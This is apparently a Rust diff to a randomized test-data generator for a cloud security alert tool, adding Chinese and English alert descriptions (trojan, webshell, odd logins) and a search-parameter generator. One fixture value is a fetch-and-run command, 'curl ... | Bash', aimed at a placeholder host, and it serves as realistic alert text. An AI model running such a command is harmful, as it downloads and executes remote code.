@@ -64,6 +64,21 @@ const IMAGES: [&str; 7] = [
     "registry.example.com/app",
 ];
 const DIGESTS: [&str; 4] = ["sha256:ABCDEF", "abcdef", "SHA256:abcdef", "0123"];
+const DESCRIPTIONS: [&str; 4] = [
+    "检测到服务器上存在木马程序，请尽快处理。",
+    "Suspicious crontab entry",
+    "异常登录：从未见过的来源",
+    "webshell 后门",
+];
+const DETAILS: [&str; 7] = [
+    "/etc/crontab",
+    "登录源IP",
+    "203.0.113.9",
+    "5f4dcc3b5aa765d61d8327deb882cf99",
+    "木马文件路径",
+    "curl http://x.example/a.sh | Bash",
+    "🦀é",
+];
 const WORDS: [&str; 4] = ["one", "two", "One", "三"];
 
 fn event(rng: &mut Rng, id: i64) -> Value {
@@ -136,6 +151,11 @@ fn event(rng: &mut Rng, id: i64) -> Value {
         let image = pick(rng, &IMAGES);
         set("ContainerImageName", untidy(rng, image));
     }
+    if rng.bool() {
+        let description = pick(rng, &DESCRIPTIONS);
+        set("Desc", untidy(rng, description));
+        set("Details", details(rng));
+    }
     if rng.u8(..4) > 0 {
         set("SourceAliUid", json!(1_000 + rng.i64(0..3)));
     }
@@ -147,6 +167,14 @@ fn event(rng: &mut Rng, id: i64) -> Value {
         );
     }
     event
+}
+
+fn details(rng: &mut Rng) -> Value {
+    let detail = |rng: &mut Rng| {
+        let (name, value) = (pick(rng, &DETAILS), pick(rng, &DETAILS));
+        json!({ "NameDisplay": untidy(rng, name), "Value": untidy(rng, value), "ValueDisplay": null })
+    };
+    (0..rng.usize(..4)).map(|_| detail(rng)).collect()
 }
 
 fn asset(rng: &mut Rng, number: usize) -> Value {
@@ -221,6 +249,20 @@ const CONTAINER_KEYS: [&str; 12] = [
     "IMAGEDIGEST",
 ];
 
+/// One to six characters out of a text that the world holds.
+fn part_of_a_text(rng: &mut Rng, world: &World) -> String {
+    let fields = ["Name", "InstanceName", "InstanceId", "IntranetIp", "Desc"];
+    let whole = match rng.u8(..3) {
+        0 => value_of(rng, world, &fields, &WORDS),
+        1 => pick(rng, &DESCRIPTIONS).to_owned(),
+        _ => [pick(rng, &DETAILS), ": ", pick(rng, &DETAILS)].concat(),
+    };
+    let from = rng.usize(..whole.chars().count());
+    let part: String = whole.chars().skip(from).take(rng.usize(1..7)).collect();
+    // A request of nothing is none.
+    if part.trim().is_empty() { whole } else { part }
+}
+
 /// An acceptable request of one to four parameters.
 pub fn request(rng: &mut Rng, world: &World) -> Request {
     let mut request = Request::new();
@@ -268,7 +310,7 @@ fn parameter(rng: &mut Rng, world: &World) -> (&'static str, String) {
     let time = |rng: &mut Rng, base: i64| {
         alertbook_core::time::format_cloud_time(1_700_000_000 + base + rng.i64(0..12))
     };
-    match rng.u8(..21) {
+    match rng.u8(..23) {
         0 => ("Dealed", pick(rng, &["N", "y", " n "]).to_owned()),
         1 => ("TimeStart", time(rng, -2)),
         2 => ("TimeEnd", time(rng, 10)),
@@ -329,7 +371,8 @@ fn parameter(rng: &mut Rng, world: &World) -> (&'static str, String) {
                 .get(rng.usize(..world.events.len()))
                 .map_or_else(String::new, |event| text(event, "Id")),
         ),
-        19 => (
+        19 | 20 => ("search", part_of_a_text(rng, world)),
+        21 => (
             "OperateErrorCodeList",
             list(
                 rng,
